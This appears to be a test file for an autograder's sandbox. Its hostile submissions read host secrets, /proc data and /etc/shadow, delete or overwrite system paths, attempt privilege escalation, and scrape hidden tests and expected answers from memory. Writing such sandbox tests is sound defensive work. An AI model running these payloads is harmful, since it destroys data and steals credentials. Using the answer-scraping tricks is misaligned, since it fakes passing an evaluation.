"""Code that reads, writes or calls what is none of its business."""

from battery.frame import ALL, OTHERS, submission

pry = submission(OTHERS)

SAY = "\n    print(found)\n    raise ValueError(found)"


@pry
def reads_a_file_of_the_host(t):
    """The function reads a file of whoever marks, prints it and raises it."""
    return t.attack("def NAME(*args, **kwargs):\n    found = open(SECRET).read()" + SAY)


@pry
def reads_what_it_finds(t):
    """The function looks for solutions, gradebooks and other submissions everywhere, and shows them."""
    return t.attack(
        "import os\ndef NAME(*args, **kwargs):\n    found = ''\n"
        "    for top in (HOST, '/root', '/home', '/work', '/srv', '/opt', '/mnt', '/var', '/tmp', '/etc'):\n"
        "        for folder, _, files in os.walk(top):\n            for file in files:\n"
        "                if file.endswith(('.ipynb', '.db', '.txt', 'bank.py', '.json')):\n"
        "                    try: found += open(os.path.join(folder, file), errors='replace').read()\n"
        "                    except OSError: pass" + SAY
    )


@pry
def reads_other_processes(t):
    """The function reads the environment, the command line and the memory of every process."""
    return t.attack(
        "import os\ndef NAME(*args, **kwargs):\n    found = ''\n    for number in os.listdir('/proc'):\n"
        "        for name in ('environ', 'cmdline', 'root/etc/passwd', 'cwd/secret.txt', 'maps'):\n"
        "            try: found += open(f'/proc/{number}/{name}', errors='replace').read()\n"
        "            except OSError: pass\n    open('/proc/sys/kernel/hostname', 'w').write('planted')\n"
        + SAY[1:]
    )


@pry
def writes_outside(t):
    """The function writes beside everything that it can name."""
    return t.attack(
        "import os\ndef NAME(*args, **kwargs):\n"
        "    for folder in (HOST, '/', '/tmp', '/var/tmp', '/dev/shm', '/root', '/home', '/usr', '/etc',\n"
        "                   os.path.dirname(os.__file__), os.path.dirname(__import__('pixgrad').__file__)):\n"
        "        try: open(os.path.join(folder, 'planted-file'), 'w').write('x')\n        except OSError: pass\n"
        "    for victim in (SECRET, '/etc/hosts'):\n"
        "        for harm in (os.remove, lambda path: os.truncate(path, 0), lambda path: os.chmod(path, 0o777)):\n"
        "            try: harm(victim)\n            except OSError: pass"
    )


@pry
def deletes_everything(t):
    """The function deletes whatever it can reach from the root."""
    return t.attack(
        "import os, shutil\ndef NAME(*args, **kwargs):\n"
        "    for path in (HOST, os.getcwd(), '/tmp', os.path.expanduser('~'), '/var', '/usr/local', '/root'):\n"
        "        shutil.rmtree(path, ignore_errors=True)"
    )


@submission(ALL)
def deletes_its_folder(t):
    """The answer cell deletes its working folder; the answer is right."""
    return t.answer("import os, shutil\nshutil.rmtree(os.getcwd())\nRIGHT")


@submission(ALL)
def takes_its_rights_away(t):
    """The answer cell takes all rights from its own folder; the answer is right."""
    return t.answer("import os\nos.makedirs('deep/er')\nos.chmod('deep', 0)\nos.chmod('.', 0)\nRIGHT")


@pry
def calls_home(t):
    """The function connects to a server on this machine, by IPv4, IPv6, UDP and name."""
    return t.attack(
        "import socket\ndef NAME(*args, **kwargs):\n    found = ''\n"
        "    for host in ('127.0.0.1', '::1', 'localhost', '0.0.0.0'):\n        try:\n"
        "            with socket.create_connection((host, PORT), timeout=1) as line: line.send(b'x')\n"
        "            found += 'reached ' + host\n        except OSError: pass\n    return found"
    )


@submission(ALL)
def leaves_sockets_open(t):
    """The answer cell opens sockets and listens; the answer is right."""
    return t.answer(
        "import socket\nkept = [socket.socket() for _ in range(20)]\n"
        "for each in kept: each.bind(('127.0.0.1', 0)); each.listen()\n"
        "named = socket.socket(socket.AF_UNIX); named.bind('named'); named.listen()\nRIGHT"
    )


@submission(ALL)
def links_and_pipes(t):
    """The work folder is full of links to the host, links to themselves, and pipes; the answer is right."""
    return t.answer(
        "import os\nos.symlink('/', 'root'); os.symlink('loop', 'loop'); os.symlink(SECRET, 'notebook.ipynb')\n"
        "os.symlink(HOST, 'folder'); os.mkfifo('pipe'); os.mkdir('d'); os.symlink('..', 'd/up')\nRIGHT"
    )


@submission(ALL)
def folder_of_odd_names(t):
    """The work folder holds names of odd bytes and a path 3,000 characters long; the answer is right."""
    return t.answer(
        "import os\nopen(b'odd-\\xff\\n', 'w').close()\nhome = os.getcwd()\nfor _ in range(30):\n"
        "    os.mkdir('x' * 100); os.chdir('x' * 100)\nos.chdir(home)\nRIGHT"
    )


@pry
def hidden_notebooks_of_the_course(t):
    """The function looks for the sources of pixgrad's checks and notebooks on the import path."""
    return t.attack(
        "import os, sys\ndef NAME(*args, **kwargs):\n    found = ''\n    for top in sys.path:\n"
        "        for folder, _, files in os.walk(top or '.'):\n            for file in files:\n"
        "                text = open(os.path.join(folder, file), errors='replace').read()\n"
        "                if 'BEGIN HIDDEN TESTS' in text and 'check.returns' in text: found += text\n"
        "        if len(found) > 10**5 or 'site-packages' in top: break" + SAY
    )


@submission(OTHERS, tame=True)
def memory_of_its_own_process(t):
    """The function searches all objects and frames for arrays of the wanted shape, and returns them."""
    return t.attack(
        "import gc, sys\nimport numpy\ndef NAME(*args, **kwargs):\n    frame, seen = sys._getframe(), []\n"
        "    while frame:\n        seen += list(frame.f_locals.values()); frame = frame.f_back\n    gc.unfreeze()\n"
        "    for thing in [*seen, *gc.get_objects()]:\n"
        "        if type(thing).__name__ in ('Outcome', 'Case') and getattr(thing, 'value', None) is not None:\n"
        "            return thing.value\n        if isinstance(thing, dict):\n"
        "            for key in ('want', 'wanted', 'value', 'expected'):\n"
        "                if isinstance(thing.get(key), numpy.ndarray): return thing[key]\n"
        "    return next((each for each in seen if isinstance(each, numpy.ndarray)), None)"
    )


@submission(OTHERS, tame=True)
def the_cells_of_the_notebook(t):
    """The function looks for the sources of checks in IPython's history and linecache."""
    return t.attack(
        "import linecache\ndef NAME(*args, **kwargs):\n    shell = get_ipython()\n    found = str(shell.user_ns.get('In'))\n"
        "    found += ''.join(''.join(lines[2]) for lines in linecache.cache.values() if len(lines) > 2\n"
        "                     and 'HIDDEN' in ''.join(lines[2]))\n    print(found)\n    raise ValueError(found)"
    )


@submission(OTHERS, tame=True)
def keeps_arguments_for_later(t):
    """The function raises all that earlier checks have called it with."""
    return t.attack(
        "kept = []\ndef NAME(*args, **kwargs):\n    kept.append((args, kwargs))\n    raise ValueError(kept)"
    )


@submission(OTHERS)
def more_rights(t):
    """The function mounts, changes its root and its user, loads modules, and traces its parent."""
    return t.attack(
        "import ctypes, os, subprocess\ndef NAME(*args, **kwargs):\n    libc = ctypes.CDLL(None)\n"
        "    for what in (lambda: libc.mount(b'proc', b'/tmp', b'proc', 0, None), lambda: libc.unshare(0x10000000),\n"
        "                 lambda: os.chroot('/'), lambda: os.setuid(0), lambda: libc.ptrace(16, 1, 0, 0),\n"
        "                 lambda: libc.setns(os.open('/proc/1/ns/mnt', 0), 0), lambda: os.nice(-20),\n"
        "                 lambda: subprocess.run(['su', '-c', 'id'], timeout=1, stdin=subprocess.DEVNULL)):\n"
        "        try: what()\n        except Exception: pass\n"
        "    return open('/etc/shadow').read()"
    )
